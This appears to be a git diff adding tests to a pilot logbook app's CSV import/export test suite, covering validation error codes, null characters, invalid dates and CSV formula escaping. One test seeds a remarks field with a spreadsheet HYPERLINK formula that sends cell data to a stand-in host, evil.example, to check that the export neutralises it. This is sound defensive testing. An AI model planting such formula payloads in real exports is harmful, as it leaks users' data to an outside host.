@@ -6,7 +6,7 @@ import { useTestApp } from '../../../test/app';
 import { signIn, TestClient } from '../../../test/client';
 import { buildUser } from '../../../test/factories';
 import { buildLogbookEntry } from '../../../test/factories/flights';
-import { addDays } from './dates';
+import { addDays } from '../../lib/dates';
 
 /** A browser's file upload: multipart form data with the CSV in the field `file`. */
 function upload(client: TestClient, csv: string, query = '', field = 'file') {
@@ -51,10 +51,34 @@ describe('logbook import and export', () => {
       new: 2,
       duplicates: 1,
       errors: [
-        { row: 4, message: expect.stringContaining('arrival_time: The arrival must be after the departure') },
-        { row: 5, message: expect.stringContaining('arrival_place: This field is required') },
-        { row: 6, message: 'departure_time: Enter the time as HH:MM (UTC).' },
-        { row: 8, message: expect.stringContaining('total_minutes:') },
+        {
+          row: 4,
+          message: expect.stringContaining('arrival_time: The arrival must be after the departure'),
+          field: 'arrival_time',
+          code: 'logbook.arrival_after_departure',
+          params: {},
+        },
+        {
+          row: 5,
+          message: expect.stringContaining('arrival_place: This field is required'),
+          field: 'arrival_place',
+          code: 'logbook.place_required',
+          params: {},
+        },
+        {
+          row: 6,
+          message: 'departure_time: Enter the time as HH:MM (UTC).',
+          field: 'departure_time',
+          code: 'logbook.time_format',
+          params: {},
+        },
+        {
+          row: 8,
+          message: expect.stringContaining('total_minutes:'),
+          field: 'total_minutes',
+          code: expect.any(String),
+          params: {},
+        },
       ],
     });
     expect((await client.get('/api/logbook/entries')).json().data).toEqual([]);
@@ -69,6 +93,44 @@ describe('logbook import and export', () => {
       { date: '2024-07-01', total_minutes: 70, pic_minutes: 70, source: 'personal' },
     ]);
     expect((await upload(client, GOOD_AND_BAD)).json().data).toMatchObject({ new: 0, duplicates: 3 });
+  });
+
+  it('reports a row with a null character or a day that does not exist, and saves the good rows, also after a dry run', async () => {
+    const importer = await signIn(t.app, (await buildUser(t.db)).email);
+    const file = [
+      HEADER,
+      '2024-08-01;EDTY;09:00;EDNY;10:10;C172;D-EABC;;;1;gut',
+      '2024-08-02;EDTY;09:00;EDNY;10:10;C172;D-EABC;;;1;Null\u0000zeichen',
+      '0000-01-01;EDTY;09:00;EDNY;10:10;C172;D-EABC;;;1;Jahr null',
+      '2024-08-03;EDTY;09:00;EDNY;10:10;C172;D-EABC;;;1;auch gut',
+    ].join('\n');
+    const expected = {
+      rows: 4,
+      new: 2,
+      duplicates: 0,
+      errors: [
+        {
+          row: 3,
+          message: 'remarks: This text contains a null character (code 0), which is not allowed',
+          field: 'remarks',
+          code: 'validation.nul_character',
+          params: {},
+        },
+        { row: 4, message: 'date: Invalid format', field: 'date', code: 'validation.format', params: {} },
+      ],
+    };
+    const preview = await upload(importer, file, '?dry_run=true');
+    expect(preview.statusCode).toBe(200);
+    expect(preview.json().data).toEqual(expected);
+    const saved = await upload(importer, file);
+    expect(saved.statusCode).toBe(200);
+    expect(saved.json().data).toEqual(expected);
+    const entries = (await importer.get('/api/logbook/entries')).json().data;
+    expect(entries.map((entry: { remarks: string }) => entry.remarks)).toEqual(['auch gut', 'gut']);
+
+    const badHeader = await upload(importer, `date;remarks\u0000\n2024-08-04;x`);
+    expect(badHeader.statusCode).toBe(422);
+    expect(badHeader.json().errors.file[0]).toContain('row 1');
   });
 
   it('refuses what is not a logbook file', async () => {
@@ -113,6 +175,34 @@ describe('logbook import and export', () => {
     const copy = (await target.get('/api/logbook/entries?paginate=false')).json().data;
     expect(strip(copy)).toEqual(strip(original));
     expect((await upload(exporter, csv.body)).json().data).toMatchObject({ new: 0, duplicates: 31 });
+  });
+
+  it('exports text that a spreadsheet would run as a formula with an apostrophe, and imports it back unchanged', async () => {
+    const source = await buildUser(t.db);
+    await buildLogbookEntry(t.db, source.id, {
+      date: '2025-05-01',
+      remarks: '=HYPERLINK("http://evil.example/?"&A1,"Details")',
+      picName: '@Jürgen',
+      aircraftType: '+C172',
+      registration: '-DEABC',
+    });
+    const exporter = await signIn(t.app, source.email);
+    const csv = (await exporter.get('/api/logbook/export?format=csv')).body;
+    const [, row] = csv.split('\n');
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Details"")"`);
+    expect(row).toContain(",'@Jürgen,");
+    expect(row).toContain(",'+C172,'-DEABC,");
+    expect(row).not.toMatch(/(^|,)[=+\-@]/);
+
+    const target = await signIn(t.app, (await buildUser(t.db)).email);
+    expect((await upload(target, csv)).json().data).toMatchObject({ new: 1, errors: [] });
+    const [copy] = (await target.get('/api/logbook/entries')).json().data;
+    expect(copy).toMatchObject({
+      remarks: '=HYPERLINK("http://evil.example/?"&A1,"Details")',
+      pic_name: '@Jürgen',
+      aircraft_type: '+C172',
+      registration: '-DEABC',
+    });
   });
 
   it('prints the logbook as a PDF in the EASA layout', async () => {
